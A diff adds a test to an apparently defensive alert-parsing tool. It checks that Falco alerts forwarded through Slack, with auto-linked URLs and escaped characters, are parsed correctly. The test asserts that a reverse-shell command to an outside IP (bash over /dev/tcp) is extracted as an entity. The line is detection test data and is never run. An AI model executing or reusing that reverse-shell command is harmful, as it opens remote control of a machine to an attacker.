@@ -710,3 +710,17 @@ def test_forwarded_fields_lose_mrkdwn_and_the_bot_name_is_no_indicator() -> None
     values = {i.value for i in alert.indicators} | {e.value for e in alert.entities}
     assert "45.33.32.156" in values
     assert "wazuh-alerts" not in values
+
+
+def test_embedded_json_with_slack_auto_links_goes_through_the_catalogue() -> None:
+    falco = (Path(__file__).parent / "fixtures" / "alerts" / "warren-falco.json").read_text()
+    # Slack rewrites URLs it sees into <url> links and escapes &, < and >.
+    text = falco.replace("docker.io/library/httpd", "<http://docker.io/library/httpd>").replace(
+        ">&", "&gt;&amp;"
+    )
+    event = {"type": "message", "subtype": "bot_message", "bot_id": "B0FALCO01", "text": text}
+    parsed = alert_from_message(event)
+    assert parsed is not None
+    alert = parse_alert(*parsed)
+    assert alert.format == "falco"
+    assert "bash -i >& /dev/tcp/155.94.163.103/8080 0>&1" in [e.value for e in alert.entities]
